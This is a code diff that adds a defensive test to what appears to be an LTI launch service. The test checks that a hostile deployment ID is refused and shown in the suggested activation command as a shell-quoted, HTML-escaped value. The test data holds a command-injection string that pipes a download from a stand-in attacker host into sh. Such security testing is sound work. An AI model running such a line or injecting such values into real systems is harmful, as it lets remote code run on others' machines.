@@ -249,6 +249,20 @@ def test_unknown_deployment_is_recorded_inactive_with_the_command_to_activate(wo
     assert deployment is not None and deployment.active is False
 
 
+def test_a_hostile_deployment_id_is_shown_quoted_and_escaped(world: World) -> None:
+    hostile = "1; curl https://evil.test/x | sh #<b>"
+    world.platform.claims = {
+        c.DEPLOYMENT_ID: hostile,
+        c.CUSTOM: {"etwin_resource": f"twinspace:{world.resources.twinspace_id}"},
+    }
+    response = world.browser().launch()
+    assert response.status_code == 403
+    # shlex-quoted for the shell, then HTML-escaped for the page: copied, it runs nothing.
+    quoted = "&#39;1; curl https://evil.test/x | sh #&lt;b&gt;&#39;"
+    assert f"etwin-lti platform activate {world.platform_id} {quoted}" in response.text
+    assert "<b>" not in response.text
+
+
 def test_forged_kids_refetch_the_key_set_at_most_once(world: World) -> None:
     world.platform.claims = {
         c.CUSTOM: {"etwin_resource": f"twinspace:{world.resources.twinspace_id}"}
